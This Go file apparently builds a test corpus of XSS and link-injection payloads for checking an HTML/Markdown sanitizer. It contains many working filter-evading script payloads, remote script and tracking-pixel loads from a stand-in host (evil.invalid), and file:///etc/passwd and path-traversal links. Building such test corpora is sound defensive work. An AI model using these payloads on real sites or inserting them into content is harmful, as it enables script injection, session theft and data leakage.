package main

import (
	"fmt"
	"strings"
)

// A payload is a text that tries to become more than text. Whatever of it runs calls hit with its number.
type payload struct {
	number int
	text   string
}

// running is what a payload wants to be run; it holds no blank and no quote, so that it fits everywhere.
func running(number int) string { return fmt.Sprintf("hit(%d)", number) }

// outside is an address that no page may ask for.
const outside = "evil.invalid"

// payloads makes all of them: each idea by itself and behind what ends the place where a text may stand.
func payloads() []payload {
	var list []payload
	seen := map[string]bool{}
	add := func(form string) {
		if seen[form] {
			return
		}
		seen[form] = true
		n := len(list) + 1
		text := strings.NewReplacer("@", running(n), "%host", outside, "%n", fmt.Sprint(n)).Replace(form)
		list = append(list, payload{n, text})
	}
	for _, form := range ideas {
		add(form)
	}
	for _, end := range ends {
		for _, form := range runs {
			add(end + form)
		}
	}
	for _, tag := range handlers {
		for _, spelling := range spellings {
			add(spelling(tag[0], tag[1], tag[2]))
		}
	}
	for _, scheme := range schemes {
		for _, carrier := range carriers {
			add(strings.ReplaceAll(carrier, "URL", scheme))
		}
	}
	return list
}

// ends are what closes the place where a text stands: an attribute, a script, a text area, a comment.
var ends = []string{
	`">`, `'>`, "`>", `"/>`, `</script>`, `</title>`, `</textarea>`, `</style>`, `</noscript>`, `</template>`, `</select>`, `</svg>`, `-->`, `]]>`, `*/`, `</a>`, `\">`, `\\">`, `&quot;>`, `%22%3E`, "\u2028", "\u2029",
}

// runs are the shortest ways to run something once free.
var runs = []string{`<script>@</script>`, `<img src=x onerror=@>`, `<svg onload=@>`, `<iframe srcdoc="<script>parent.@</script>">`}

// handlers are elements with attributes that make an event happen by itself.
var handlers = [][3]string{
	{"img", "src=x", "onerror"},
	{"svg", "", "onload"},
	{"body", "", "onpageshow"},
	{"input", "autofocus", "onfocus"},
	{"details", "open", "ontoggle"},
	{"video", "src=x", "onerror"},
	{"audio", "src=x", "onerror"},
	{"marquee", "", "onstart"},
	{"iframe", "", "onload"},
	{"object", "data=x", "onerror"},
	{"embed", "src=x", "onerror"},
	{"style", "", "onload"},
	{"link", "rel=stylesheet href=x", "onerror"},
	{"p", `style="animation:x 1s"`, "onanimationstart"},
	{"select", "autofocus", "onfocus"},
	{"button", "popover", "ontoggle"},
	{"x", "tabindex=0 autofocus", "onfocus"},
}

// spellings write an element in ways that filters overlook.
var spellings = []func(tag, with, on string) string{
	func(tag, with, on string) string { return "<" + tag + " " + with + " " + on + "=@>" },
	func(tag, with, on string) string {
		return "<" + strings.ToUpper(tag) + " " + with + " " + strings.ToUpper(on) + "='@'>"
	},
	func(tag, with, on string) string { return "<" + tag + "/" + on + "=\"@\"/" + with + ">" },
	func(tag, with, on string) string { return "<" + tag + "\t" + with + "\t" + on + "\t=\t@>" },
	func(tag, with, on string) string { return "<" + tag + " " + with + " " + on + "=&#104;it(%n)>" },
	func(tag, with, on string) string { return "&lt;" + tag + " " + with + " " + on + "=@&gt;" },
	func(tag, with, on string) string { return "\" " + with + " " + on + "=@ x=\"" },
	func(tag, with, on string) string { return "' " + with + " " + on + "=@ x='" },
	func(tag, with, on string) string { return "＜" + tag + " " + with + " " + on + "=@＞" },
	func(tag, with, on string) string { return "<<" + tag + " " + with + " " + on + "=@//<" },
}

// schemes are addresses that run, or that lead out of the site.
var schemes = []string{
	"javascript:@", "JaVaScRiPt:@", " javascript:@", "java\tscript:@", "javascript&colon;@", "&#106;avascript:@", "&#x6A;avascript&#58;@", "javascript://%0a@", "%6Aavascript:@",
	"vbscript:@", "data:text/html,<script>parent.@</script>", "data:image/svg+xml,<svg/onload=@>", "blob:x", "//%host/x.js", `\\%host\x.js`, "https://%host/p.gif", "http://xn--fiq228c.invalid/", "http://例子.invalid/", "https://аррӏе.invalid/", "../../../../etc/passwd", "file:///etc/passwd", "view-source:x", "ftp://%host/",
}

// carriers are where an address may stand, in HTML and in Markdown.
var carriers = []string{
	"<a href=\"URL\">x</a>", "<iframe src=\"URL\">", "<img src=\"URL\">", "<object data=\"URL\">", "<form action=\"URL\"><button autofocus>", "<script src=\"URL\"></script>", "<base href=\"URL\">",
}

// ideas each stand for a trick of their own.
var ideas = []string{
	`<script>@</script>`, `<SCRIPT>@</SCRIPT>`, `<script/x>@</script>`, "<script\u00a0>@</script>", `<scr<script>ipt>@</scr</script>ipt>`, `<script>@//`, `<svg><script>@</script></svg>`,
	`<svg><script>&#104;it(%n)</script></svg>`, `<svg><script href="//%host/x.js"/></svg>`, `<svg><use href="//%host/x.svg#a"/></svg>`, `<svg><image href="//%host/x.png"/></svg>`,
	`<svg><animate onbegin=@ attributeName=x dur=1s>`, `<svg><set onbegin=@ attributeName=x>`, `<svg><a xlink:href="javascript:@"><text y=9>x`, `<svg><foreignObject><script>@</script></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">`, `<noscript><p title="</noscript><img src=x onerror=@>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>`,
	`<img src="x` + "`" + `<script>@</script>"` + "`>", `<!--><script>@</script>-->`, `<!--[if IE]><script>@</script><![endif]-->`, `<![CDATA[<script>@</script>]]>`, `<?xml version="1.0"?><script>@</script>`,
	`<meta http-equiv="refresh" content="0;url=javascript:@">`, `<meta http-equiv="refresh" content="0;url=https://%host/">`, `<link rel=stylesheet href=//%host/x.css>`, `<link rel=prefetch href=//%host/x>`, `<link rel=dns-prefetch href=//%host>`,
	`<style>@import url(//%host/x.css);</style>`, `<style>*{background:url(//%host/p)}</style>`, `<p style="background:url(//%host/p)">`, `<p style="width:expression(@)">`, `<p style="behavior:url(//%host/x.htc)">`, `;}*{background:url(//%host/p)}`,
	`<img srcset="//%host/p 1x">`, `<picture><source srcset=//%host/p></picture>`, `<video poster=//%host/p>`, `<input type=image src=//%host/p>`, `<table background=//%host/p>`, `<body background=//%host/p>`, `<a ping=//%host/p href=#>x</a>`,
	`';@;//`, `";@;//`, "`;@;//", `\';@;//`, `\";@;//`, `\u0022;@;//`, `\x27;@;//`, `${@}`, `#{@}`, `<%= @ %>`, `{%@%}`, `[[@]]`, `{{constructor.constructor('@')()}}`, `*/@/*`, `}};@;//`, `"}];@;//`, `"]});@;//`, `</script><script>@</script>`,
	"\u2028@\u2028", "\u2029@\u2029", `__f__@__f__`, `__f__function(){@}__f__`, `function(){@}`, `() => @`, `"__proto__"`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `{b|{a}}`, `{a}{b}{c}`, `\n@`, `\u003cscript\u003e@\u003c/script\u003e`, `\x3cscript\x3e@\x3c/script\x3e`,
	`%3Cscript%3E@%3C/script%3E`, `%253Cscript%253E@`, `+ADw-script+AD4-@+ADw-/script+AD4-`, `&lt;script&gt;@&lt;/script&gt;`, `&amp;lt;script&amp;gt;@`, `&#60;script&#62;@&#60;/script&#62;`, `&#x3c;script&#x3e;@`, `&LT;script&GT;@`, `＜script＞@＜/script＞`, `‹script›@`, "<scr\u200bipt>@</script>", "<\ufeffscript>@</script>",
	`[x](javascript:@)`, `[x](JaVaScRiPt:@)`, `[x](<javascript:@>)`, `[x](java&#115;cript:@)`, `[x](javascript&colon;@)`, `[x](data:text/html,<script>@</script>)`, `[x](//%host/)`, `[x](https://%host/)`, `[x](\\%host\x)`, `[x](blob:x)`, `[x](../../../../etc/passwd)`, `[x](vbscript:@)`, `[x](%6aavascript:@)`,
	`![x](https://%host/p.gif)`, `![x](//%host/p.png)`, `![x](data:text/plain,x)`, `![x](data:image/svg+xml,<svg/onload=@>)`, `![x](javascript:@)`, `![x"onerror="@](../images/x.png)`, `<https://%host/>`, `<javascript:@>`, `https://%host/`, `www.%host`, `mail@%host`, `[x]: javascript:@`, `[x]: https://%host "t"`,
	"`<script>@</script>`", `**<script>@</script>**`, `~~<img src=x onerror=@>~~`, `[^"><script>@</script>]`, `\<script\>@\</script\>`, `|<script>@</script>|`, `# <script>@</script>`, `> <script>@</script>`, `- <script>@</script>`, `1. <img src=x onerror=@>`, `<details open ontoggle=@>`, `<dialog open onclose=@>`, `<plaintext>`, `<xmp><script>@</script></xmp>`, `<isindex type=image src=1 onerror=@>`, `<keygen autofocus onfocus=@>`, `<frameset onload=@>`, `<applet code=x>`, `<template><script>@</script></template>`, `<slot onslotchange=@>`, `<portal src=//%host>`,
}
